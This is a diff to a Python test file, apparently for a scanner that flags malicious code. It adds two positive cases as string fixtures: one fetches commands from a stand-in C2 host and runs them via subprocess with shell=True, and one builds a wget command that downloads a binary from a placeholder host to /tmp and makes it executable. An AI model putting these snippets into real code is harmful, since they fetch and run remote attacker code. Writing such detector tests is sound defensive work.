@@ -288,6 +288,28 @@ POSITIVES = [
     ),
 ]
 
+POSITIVES += [
+    Case(
+        "remote commands run through a helper",
+        "import requests, subprocess\n"
+        "def debug():\n"
+        "    resp = requests.get('https://c2.example/').text\n"
+        "    return runcommand(resp)\n"
+        "def runcommand(value):\n"
+        "    return subprocess.run(value, shell=True, capture_output=True)\n",
+        {(DOWNLOAD, H)},
+    ),
+    Case(
+        "download command built in an f-string",
+        "import random, subprocess\n"
+        "def start():\n"
+        "    name = str(random.randint(1, 9))\n"
+        "    subprocess.run(f'wget -qO /tmp/{name} https://x.example/b && chmod +x /tmp/{name}',\n"
+        "                   shell=True)\n",
+        {(DOWNLOAD, H)},
+    ),
+]
+
 NEGATIVES = [
     Case(
         "library function running a process when called",
